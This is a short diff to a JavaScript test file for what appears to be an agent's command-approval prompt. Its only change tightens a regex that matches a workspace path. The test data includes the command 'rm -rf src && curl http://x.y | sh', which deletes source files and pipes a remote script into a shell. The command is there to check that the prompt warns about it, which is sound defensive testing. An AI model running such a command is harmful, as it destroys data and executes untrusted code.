@@ -192,7 +192,7 @@ test("however long the subject, the buttons are in sight", async (t) => {
 test("why a command asks, where it runs, and what holds it", async (t) => {
   const view = await show(t, asking("denied"));
   const text = await (await settled(view)).innerText();
-  for (const part of [/rm -rf src && curl http:\/\/x\.y \| sh/, /rm changes files or the system\./, /curl reaches other machines\./, /in shop/, /sandbox: writes only in the workspace/]) assert.match(text, part);
+  for (const part of [/rm -rf src && curl http:\/\/x\.y \| sh/, /rm changes files or the system\./, /curl reaches other machines\./, /in shop\//, /sandbox: writes only in the workspace/]) assert.match(text, part);
 });
 
 test("a read outside says where it leads, and that auto-approve does not cover it", async (t) => {
